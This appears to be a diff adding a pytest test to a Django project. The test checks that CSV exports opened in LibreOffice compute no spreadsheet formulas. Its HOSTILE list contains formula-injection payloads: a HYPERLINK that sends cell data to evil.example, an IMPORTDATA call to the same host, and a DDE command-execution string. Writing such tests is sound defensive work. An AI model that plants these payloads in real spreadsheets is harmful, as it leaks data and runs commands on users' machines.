@@ -1,0 +1,41 @@
+"""LibreOffice opens the CSV of a link, and computes nothing of what a hostile vendor or reviewer wrote."""
+
+import csv
+import shutil
+import subprocess
+from pathlib import Path
+
+import pytest
+from django.test import Client
+
+from batches.models import Connection
+from tests.factories import make_batch, make_event, make_item, make_link
+
+HOSTILE = [
+    "=1+1", "+1+1", "-1+1", "@SUM(1;1)", "\t=1+1", "\r=1+1", "\n=1+1", "＝1+1", "＋1+1", "－1+1", "＠SUM(1;1)", '"=1+1',
+    ' =1+1', "\u200b=1+1", "'=1+1", '=HYPERLINK("http://evil.example/?x="&A1)', "=cmd|' /C calc'!A0",
+    "=IMPORTDATA(\"http://evil.example\")", "@x,=1+1", 'a","=1+1', "a\r\n=1+1",
+]  # fmt: skip
+
+
+@pytest.mark.skipif(not shutil.which("soffice"), reason="LibreOffice is not here; tests/install.sh brings it")
+def test_a_spreadsheet_computes_nothing(account: Connection, tmp_path: Path) -> None:
+    item = make_item(make_batch(account, prompt="=1+1"), name="=1+1")
+    for text in HOSTILE:
+        make_event(item, label=text, ai_text=text, category=text.replace("\n", " ").replace("\r", " "))
+    _, token = make_link(item.batch, columns="full")
+    (tmp_path / "in").mkdir()
+    file = tmp_path / "in" / "link.csv"
+    file.write_bytes(Client().get(f"/d/{token}/").getvalue())
+    # 44,34,76: comma, quote, UTF-8; the last but one: formulas are written as they are, so that one would be seen.
+    options = "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,true"
+    subprocess.run(
+        ["soffice", f"-env:UserInstallation=file://{tmp_path}/profile", "--headless", "--convert-to", options,
+         "--infilter=CSV:44,34,76", "--outdir", str(tmp_path), str(file)],
+        check=True, capture_output=True, timeout=240,
+    )  # fmt: skip
+    given, shown = (list(csv.reader(path.open(encoding="utf-8", newline=""))) for path in (file, tmp_path / "link.csv"))
+    assert len(shown) == len(given) == len(HOSTILE) + 1
+    for row in shown[1:]:
+        assert "2" not in [row[place] for place, name in enumerate(given[0]) if name in ("Label", "AI Analysis", "Query")]
+        assert not [cell for cell in row if cell.startswith("=")]
